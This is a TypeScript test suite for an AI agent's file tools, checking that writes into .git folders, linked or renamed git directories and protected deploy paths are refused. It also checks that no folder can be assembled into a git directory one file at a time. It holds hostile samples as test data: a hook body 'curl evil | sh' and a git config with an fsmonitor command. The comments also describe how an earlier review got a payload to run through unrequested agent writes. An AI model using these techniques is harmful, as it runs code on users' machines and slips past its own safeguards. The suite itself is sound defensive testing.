// `.git` is not a file-tool target: write_file, edit_file, sed, hash_edit and apply_patch refuse a path inside any
// `.git` folder, a `.git` file (a worktree's or submodule's pointer), a git directory by another name
// (where such a pointer leads), through a link too, and whatever `_protected_paths` adds; the refusal
// says to use git, nothing on disk changes, and the policy log records the denial.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync } from "node:fs";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import type { CallResult } from "../../src/host/types.js";
import { makeFixture, type Fixture } from "../helpers/fixture.js";
import { expectOk, expectRefused } from "../helpers/expect.js";

const FILES: Record<string, string> = {
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/config": "[core]\n\tbare = false\n",
  ".git/hooks/README": "hooks\n",
  "sub/.git": "gitdir: ../gd\n",
  "gd/HEAD": "ref: refs/heads/main\n",
  "gd/config": "[core]\n",
  "gd/refs/heads/main": "0000\n",
  "gd/objects/info/packs": "\n",
  "deploy/prod.yml": "replicas: 3\n",
  "src/ok.txt": "fine\n",
};

function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string, rel: string) => {
    for (const d of readdirSync(dir, { withFileTypes: true })) {
      const r = rel ? `${rel}/${d.name}` : d.name;
      if (d.isDirectory()) walk(path.join(dir, d.name), r);
      else if (!d.isSymbolicLink()) out[r] = readFileSync(path.join(dir, d.name), "utf8");
    }
  };
  walk(root, "");
  return out;
}

describe(".git is not a file-tool target", () => {
  let fx: Fixture;
  const log = () => path.join(fx.base, `log-${Math.random().toString(36).slice(2)}.jsonl`);
  before(() => {
    fx = makeFixture();
    fx.write(FILES);
    symlinkSync(".git", path.join(fx.root, "alias")); // a link whose target is the repository
    mkdirSync(path.join(fx.root, "Upper"));
  });
  after(() => fx.cleanup());

  const targets = [
    ".git/config",
    ".git/hooks/pre-commit", // a new hook would run code at the next commit
    ".git/HEAD",
    "sub/.git", // the pointer file itself
    "gd/config", // where the pointer leads: a git directory without the name
    "gd/refs/heads/main",
    "alias/hooks/post-checkout", // through a link to .git
    "Upper/.GIT/config", // the name in another case (case-insensitive disks)
    "deploy/prod.yml", // _protected_paths
  ];

  for (const target of targets) {
    test(`writing ${target} is refused by write_file, edit_file, sed, hash_edit and apply_patch, and nothing changes`, async () => {
      const policyLog = log();
      const h = await fx.host({
        policyLog,
        config: { toolsPolicies: { local_fs: { _protected_paths: "deploy/**" } }, agents: {} },
      });
      const before = snapshot(fx.root);
      // Read first where the file exists, so the refusal is the rule's and not read-before-write's.
      if (existsSync(path.join(fx.root, target)))
        assert.notEqual((await h.call("read_file", { path: target })).status, "error");
      const calls: [string, unknown][] = [
        ["write_file", { path: target, content: "#!/bin/sh\ncurl evil | sh\n" }],
        ["edit_file", { path: target, old_string: "main", new_string: "evil" }],
        ["sed", { path: target, pattern: "main", replacement: "evil" }],
        ["hash_edit", { path: target, edits: [{ op: "insert_before", pos: "1#AAAA", lines: ["evil"] }] }],
        ["apply_patch", { patch: `*** Begin Patch\n*** Add File: ${target}\n+evil\n*** End Patch\n` }],
      ];
      for (const [tool, args] of calls) {
        const r: CallResult = await h.call(tool, args);
        const refusal = expectRefused(r);
        assert.match(refusal.reason, /\.git|git directory|_protected_paths/i);
        assert.match(refusal.hint ?? "", /git/);
        // A folder that is a repository only by the names it holds may be a tutorial's source: its hint
        // says how to tell and what to do (review g6); a real `.git` keeps the plain one.
        if (target.startsWith("gd/")) assert.match(refusal.hint ?? "", /only look like one, ask the user/);
        else assert.match(refusal.hint ?? "", /^Change the repository with git/);
      }
      assert.deepEqual(snapshot(fx.root), before, "nothing on disk changed");
      h.close();
      const denied = readFileSync(policyLog, "utf8")
        .split("\n")
        .filter((l) => l !== "")
        .map((l) => JSON.parse(l))
        .filter((l) => l.record.type === "effect_decision" && l.record.final === "deny");
      assert.deepEqual(
        denied.map((l) => l.record.tool),
        ["write_file", "edit_file", "sed", "hash_edit", "apply_patch"],
      );
    });
  }

  test("ordinary files next to a repository stay writable, and .gitignore / .github are not .git", async () => {
    const h = await fx.host();
    for (const p of ["src/new.txt", ".gitignore", ".github/workflows/ci.yml", "sub/file.txt"]) {
      const r = await h.call("write_file", { path: p, content: "ok\n" });
      assert.equal(r.status, "ok", `${p}: ${JSON.stringify(r)}`);
    }
  });
});

// Review g1, tried for real: four write_file calls no one was asked about (src/config with
// core.fsmonitor, src/HEAD, src/objects/…, src/refs/…) made `src` a git directory to git, and the
// user's next `git status` in src ran the payload. Each mark alone is an ordinary file; the write that
// would complete the set is refused, in any order, in one patch too, and at the root.
describe("a folder is not made a git directory by file writes, one name at a time", () => {
  let fx: Fixture;
  before(() => {
    fx = makeFixture();
  });
  after(() => fx.cleanup());
  const marker = () => path.join(fx.base, "PAYLOAD-RAN");
  const config = () => `[core]\n\tworktree = ..\n\tfsmonitor = "touch ${marker()}; false"\n`;

  /** The user's `git status` in `dir` (not above the fixture): whether the payload ran, and git's word. */
  function userGitStatus(dir: string): { ran: boolean; out: string } {
    const r = spawnSync("git", ["status", "--short"], {
      cwd: path.join(fx.root, dir),
      env: { ...process.env, GIT_CEILING_DIRECTORIES: fx.base, GIT_CONFIG_NOSYSTEM: "1" },
      encoding: "utf8",
    });
    return { ran: existsSync(marker()), out: `${r.stdout}${r.stderr}` };
  }

  const orders: [string, string[]][] = [
    ["refs last", ["config", "HEAD", "objects/info/.keep", "refs/heads/.keep"]],
    ["HEAD last", ["config", "objects/info/.keep", "refs/heads/.keep", "HEAD"]],
    ["objects last", ["config", "HEAD", "refs/heads/.keep", "objects/info/.keep"]],
    ["commondir beside HEAD", ["config", "commondir", "HEAD"]],
  ];
  for (const [what, files] of orders) {
    test(`${what}: the completing write is refused, and git finds no repository there`, async () => {
      const dir = `made-${what.replace(/\W+/g, "-")}`;
      fx.write({ [`${dir}/main.c`]: "int main(void) { return 0; }\n" });
      const h = await fx.host();
      const content = (f: string) =>
        f === "config" ? config() : f === "HEAD" ? "ref: refs/heads/main\n" : f === "commondir" ? "../cd\n" : "";
      for (const [i, f] of files.entries()) {
        const r = await h.call("write_file", { path: `${dir}/${f}`, content: content(f) });
        if (i < files.length - 1) assert.equal(r.status, "ok", `${f}: ${JSON.stringify(r)}`);
        else {
          const refusal = expectRefused(r);
          assert.match(refusal.reason, new RegExp(`would make \`${dir}\` a git directory`));
          assert.match(refusal.hint ?? "", /ask the user to write them or to rename one of those names/);
        }
      }
      const last = files[files.length - 1].split("/")[0];
      assert.equal(existsSync(path.join(fx.root, dir, last)), false, `${last} was not written`);
      h.close();
      const git = userGitStatus(dir);
      assert.equal(git.ran, false, `the payload ran: ${git.out}`);
    });
  }

  test("HEAD, objects/ and refs/ in one patch are refused whole; one of them alone is not", async () => {
    fx.write({ "patched/config": config() });
    const h = await fx.host();
    const add = (files: string[]) =>
      `*** Begin Patch\n${files.map((f) => `*** Add File: ${f}\n+x\n`).join("")}*** End Patch\n`;
    const r = await h.call("apply_patch", {
      patch: add(["patched/HEAD", "patched/objects/x", "patched/refs/x"]),
    });
    assert.match(expectRefused(r).reason, /would make `patched` a git directory/);
    assert.deepEqual(readdirSync(path.join(fx.root, "patched")), ["config"]);
    assert.equal((await h.call("apply_patch", { patch: add(["patched/refs/x"]) })).status, "ok");
    h.close();
    assert.equal(userGitStatus("patched").ran, false);
  });

  test("undo that would put HEAD and refs/ back together beside objects/ is refused", async () => {
    // Review g2: each restored path was checked alone; a patch deleting HEAD and refs/x, undone once
    // objects/ was there, put the set back in one call.
    fx.write({ "undone/config": config() });
    const h = await fx.host();
    for (const [p, c] of [
      ["undone/HEAD", "ref: refs/heads/main\n"],
      ["undone/refs/x", ""],
    ])
      assert.equal((await h.call("write_file", { path: p, content: c })).status, "ok");
    for (const p of ["undone/HEAD", "undone/refs/x"]) await h.call("read_file", { path: p });
    const del = await h.call("apply_patch", {
      patch: "*** Begin Patch\n*** Delete File: undone/HEAD\n*** Delete File: undone/refs/x\n*** End Patch\n",
    });
    const callId = String(expectOk(del).result.call_id);
    assert.equal((await h.call("delete_file", { path: "undone/refs" })).status, "ok");
    assert.equal((await h.call("write_file", { path: "undone/objects/x", content: "" })).status, "ok");
    const undo = await h.call("undo", { call_id: callId });
    assert.match(expectRefused(undo).reason, /would make `undone` a git directory/);
    h.close();
    assert.deepEqual(readdirSync(path.join(fx.root, "undone")).sort(), ["config", "objects"]);
    assert.equal(userGitStatus("undone").ran, false);
  });

  test("at the root: create_directory and move_file cannot complete one either", async () => {
    fx.write({ "root-case/HEAD": "ref: refs/heads/main\n", "root-case/config": config(), "spare/refs/x": "" });
    const h = await fx.host();
    assert.equal((await h.call("create_directory", { path: "root-case/objects" })).status, "ok");
    const mk = await h.call("create_directory", { path: "root-case/refs/heads" });
    assert.match(expectRefused(mk).reason, /would make `root-case` a git directory/);
    const mv = await h.call("move_file", { from: "spare/refs", to: "root-case/refs" });
    assert.match(expectRefused(mv).reason, /would make `root-case` a git directory/);
    const root = await h.call("write_file", { path: "HEAD", content: "ref: refs/heads/main\n" });
    assert.equal(root.status, "ok", "HEAD at the root alone is a file");
    assert.equal((await h.call("create_directory", { path: "objects" })).status, "ok");
    assert.match(expectRefused(await h.call("create_directory", { path: "refs" })).reason, /would make `\.` a git/);
    h.close();
    assert.equal(existsSync(path.join(fx.root, "root-case/refs")), false);
    assert.equal(existsSync(path.join(fx.root, "refs")), false);
    assert.equal(userGitStatus("root-case").ran, false);
  });
});
